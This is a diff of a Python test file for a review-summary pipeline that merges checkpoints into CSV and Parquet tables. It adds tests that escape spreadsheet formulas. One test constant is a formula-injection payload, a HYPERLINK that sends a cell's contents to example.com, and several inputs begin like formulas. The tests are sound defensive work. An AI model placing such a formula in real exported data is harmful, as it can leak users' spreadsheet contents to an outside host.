@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 import io
 
 import polars as pl
@@ -9,13 +10,19 @@ from reviewsum_assets.checkpoints.manifest import QuarantinedProduct, decode_row
 from reviewsum_assets.checkpoints.merge import (
     COVERAGE_COLUMNS,
     MERGED_SCHEMA,
+    MergedStatistics,
+    as_text,
     current_merged_table,
     merge_checkpoints,
+    merged_statistics,
 )
 from reviewsum_assets.errors import CheckpointError
+from reviewsum_assets.lake_state import verify_lake
 from reviewsum_assets.storage import places
 from reviewsum_assets.storage.lake import Lake
-from tests.support.checkpoints import complete, plan_products, products
+from tests.support.checkpoints import complete, grouped, plan_products, products
+
+COMMAND = '=HYPERLINK("http://example.com?"&A1,"more, here")'
 
 
 def merged_rows(lake: Lake) -> dict[str, tuple[str, int]]:
@@ -31,25 +38,17 @@ def reads(lake: Lake) -> dict[str, tuple[int | None, int | None]]:
     return {product: (read, cut) for product, read, cut in columns.iter_rows()}
 
 
-def test_every_product_is_merged_once_with_exactly_the_contracts_columns(lake: Lake) -> None:
-    plan = plan_products(lake, products(250)).plan
-    complete(lake, plan)
-    merged = merge_checkpoints(lake, plan)
-    content = lake.get(places.MERGED_CSV) or b""
-    assert content.splitlines()[0] == b"product_id,abstracted_summary,review_count"
-    assert merged_rows(lake).keys() == products(250).keys()
-    assert (merged.rows, merged.completeness) == (250, 1.0)
-
-
 def test_csv_and_parquet_hold_the_same(any_lake: Lake) -> None:
     texts = {"a": 'quotes " and, commas', "b": "two\nlines", "c": "ünïcode 🎧", "d": ""}
     plan = plan_products(any_lake, texts, checkpoint_size=2).plan
     complete(any_lake, plan)
-    merge_checkpoints(any_lake, plan)
+    merged = merge_checkpoints(any_lake, plan)
+    assert (merged.rows, merged.completeness) == (4, 1.0)
     table = pl.read_parquet(io.BytesIO(any_lake.get(places.MERGED_PARQUET) or b""))
     assert table.schema == pl.Schema({**MERGED_SCHEMA, **COVERAGE_COLUMNS})
     contract = table.select(MERGED_SCHEMA.names())
     assert {row[0]: row[1:] for row in contract.iter_rows()} == merged_rows(any_lake)
+    assert merge_checkpoints(any_lake, plan) == merged, "merged twice, it is the same"
 
 
 def test_the_parquet_table_tells_how_many_reviews_were_read(lake: Lake) -> None:
@@ -66,30 +65,21 @@ def test_the_parquet_table_tells_how_many_reviews_were_read(lake: Lake) -> None:
     assert reads(lake) == {"b": (1, 0), "c": (None, None)}
 
 
-def test_more_than_a_thousand_checkpoints_merge(lake: Lake) -> None:
-    plan = plan_products(lake, products(1100), checkpoint_size=1).plan
-    complete(lake, plan)
-    assert merge_checkpoints(lake, plan).rows == 1100
-    assert len(merged_rows(lake)) == 1100
-
-
 def test_a_product_comes_from_its_newest_checkpoint_with_the_plans_review_count(
     lake: Lake,
 ) -> None:
-    complete(lake, plan_products(lake, {"a": "old", "b": "same"}, counts={"a": 5, "b": 5}).plan)
+    texts = {"a": "old", "b": "same", "c": "no longer selected"}
+    complete(lake, plan_products(lake, texts, counts={"a": 5, "b": 5, "c": 1}).plan)
     plan = plan_products(
-        lake, {"a": "new", "b": "same"}, counts={"a": 6, "b": 9}, version="grouped-2"
+        lake,
+        {**texts, "a": "new"},
+        counts={"a": 6, "b": 9, "c": 1},
+        version="grouped-2",
+        top_k=2,
     ).plan
     complete(lake, plan, numbers=[2])
     merge_checkpoints(lake, plan)
     assert merged_rows(lake) == {"a": ("summary of new", 6), "b": ("summary of same", 9)}
-
-
-def test_a_product_that_is_no_longer_selected_is_not_merged(lake: Lake) -> None:
-    complete(lake, plan_products(lake, products(3)).plan)
-    plan = plan_products(lake, products(3), top_k=2).plan
-    merge_checkpoints(lake, plan)
-    assert sorted(merged_rows(lake)) == ["P000000", "P000001"]
 
 
 def test_quarantined_products_are_counted_and_not_merged(lake: Lake) -> None:
@@ -119,7 +109,7 @@ def test_the_most_frequent_reason_is_named_without_its_place_in_a_product() -> N
     require_summaries(0, [])
 
 
-def test_a_missing_checkpoint_fails_the_merge_by_name_and_keeps_the_old_table(lake: Lake) -> None:
+def test_a_missing_checkpoint_fails_the_merge_by_name_unless_it_may_lack(lake: Lake) -> None:
     complete(lake, plan_products(lake, products(2)).plan)
     merge_checkpoints(lake, plan_products(lake, products(2)).plan)
     before = lake.get(places.MERGED_CSV)
@@ -127,23 +117,98 @@ def test_a_missing_checkpoint_fails_the_merge_by_name_and_keeps_the_old_table(la
     with pytest.raises(CheckpointError, match=r"checkpoint_00002 \(missing: no manifest\)"):
         merge_checkpoints(lake, plan)
     assert lake.get(places.MERGED_CSV) == before
-
-
-def test_an_incomplete_merge_is_stamped_with_what_it_lacks(lake: Lake) -> None:
-    plan = plan_products(lake, products(4), checkpoint_size=1).plan
-    complete(lake, plan, numbers=[1, 3, 4])
     merged = merge_checkpoints(lake, plan, allow_incomplete=True)
-    assert (merged.rows, merged.incomplete_checkpoints, merged.completeness) == (3, (2,), 0.75)
+    assert (merged.rows, merged.incomplete_checkpoints) == (2, (2,))
+    assert merged.completeness == pytest.approx(2 / 3)
     assert current_merged_table(lake) == merged
-
-
-def test_nothing_at_all_is_not_merged_even_if_incomplete_is_allowed(lake: Lake) -> None:
-    plan = plan_products(lake, products(4)).plan
-    with pytest.raises(CheckpointError, match="1 of 1 checkpoints cannot be merged"):
+    lake.delete(places.checkpoint_manifest(1))
+    with pytest.raises(CheckpointError, match="2 of 2 checkpoints cannot be merged"):
         merge_checkpoints(lake, plan, allow_incomplete=True)
 
 
-def test_merging_twice_gives_the_same_bytes(lake: Lake) -> None:
-    plan = plan_products(lake, products(30), checkpoint_size=7).plan
-    complete(lake, plan)
-    assert merge_checkpoints(lake, plan) == merge_checkpoints(lake, plan)
+@pytest.mark.parametrize(
+    "cell",
+    ["=1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1"],  # noqa: RUF001
+)
+def test_a_cell_that_begins_like_a_formula_becomes_a_text(cell: str) -> None:
+    assert as_text(cell) == f"'{cell}"
+
+
+@pytest.mark.parametrize("cell", ["", "B001", "Good = cheap", "'=1", "5-star"])
+def test_other_texts_stay_as_they_are(cell: str) -> None:
+    assert as_text(cell) == cell
+
+
+def test_a_table_for_spreadsheets_has_no_formulas_and_does_not_outlive_the_next_merge(
+    any_lake: Lake,
+) -> None:
+    plan = plan_products(any_lake, {"-P1": "text", "P2": "text"}).plan
+    complete(any_lake, plan, texts={"-P1": COMMAND, "P2": "Café, good."})
+    merge_checkpoints(any_lake, plan, spreadsheet=True)
+    found = (any_lake.get(places.MERGED_SPREADSHEET) or b"").decode("utf-8-sig")
+    assert list(csv.reader(found.splitlines()))[1:] == [
+        ["'-P1", f"'{COMMAND}", "1000"],
+        ["P2", "Café, good.", "999"],
+    ]
+    assert merged_rows(any_lake)["-P1"] == (COMMAND, 1000)
+    assert verify_lake(any_lake) == []
+    any_lake.put(places.MERGED_SPREADSHEET, b"changed")
+    (problem,) = verify_lake(any_lake)
+    assert problem.startswith(f"{places.MERGED_SPREADSHEET} is not the file that was merged")
+    merge_checkpoints(any_lake, plan)
+    assert any_lake.head(places.MERGED_SPREADSHEET) is None
+    assert verify_lake(any_lake) == []
+
+
+COUNTS = {"P000000": 25, "P000001": 12, "P000002": 7, "P000003": 5_000}
+
+
+def figures(lake: Lake, words: int, poison: list[str]) -> MergedStatistics:
+    """Figures of four products' summaries, the first of them one word longer than ``words``."""
+    texts = products(4)
+    plan = plan_products(lake, texts, counts=COUNTS).plan
+    summaries = dict.fromkeys(texts, "word " * words)
+    complete(lake, plan, poison=poison, texts={**summaries, "P000000": "word " * (words + 1)})
+    merge_checkpoints(lake, plan)
+    # The grouped table may count in another type.
+    counted = grouped(texts, COUNTS).with_columns(pl.col("review_count").cast(pl.UInt32))
+    return merged_statistics(lake, counted)
+
+
+def test_words_and_covered_reviews_are_counted_by_class(lake: Lake) -> None:
+    found = figures(lake, words=4, poison=["P000001"])
+    assert (found.words, found.reviews_covered) == (13, 5_032)
+    assert found.lengths == ((0, 4, 2), (5, 9, 1))
+    assert found.review_coverage == pytest.approx(5_032 / 5_044)
+    assert [tuple(one) for one in found.classes] == [
+        (5, 9, 7, 7),
+        (10, 19, 12, 0),
+        (20, 49, 25, 25),
+        (5_000, None, 5_000, 5_000),
+    ]
+    assert merged_statistics(lake, None).review_coverage is None, "nothing is known of others"
+
+
+def test_bins_grow_with_the_longest_summary(lake: Lake) -> None:
+    found = figures(lake, words=599, poison=[])
+    assert found.lengths == ((500, 599, 3), (600, 699, 1))
+
+
+def test_reads_are_counted_by_class(lake: Lake) -> None:
+    counts = {"a": 3, "b": 2, "c": 7}
+    # Of a grouped CSV it is not known, also when dumps of reviews give the same text later.
+    first = plan_products(lake, {"c": "three reviews on one line"}, counts=counts, max_chars=9)
+    complete(lake, first.plan)
+    texts = {"a": "one more\ntwo\nthree", "b": "one\ntwo", "c": "three rev"}
+    both = plan_products(lake, texts, counts=counts, max_chars=9, separable=True)
+    assert (both.new, both.unchanged) == (2, 1)
+    complete(lake, both.plan, numbers=both.added)
+    merge_checkpoints(lake, both.plan)
+    found = merged_statistics(lake, None)
+    assert [tuple(one) for one in found.reads] == [(0, 4, 5, 3)]
+    assert found.reviews_cut == 1
+
+
+def test_a_table_without_rows_has_no_lengths_and_covers_nothing(lake: Lake) -> None:
+    found = figures(lake, words=4, poison=list(COUNTS))
+    assert (found.words, found.lengths, found.review_coverage) == (0, (), 0.0)
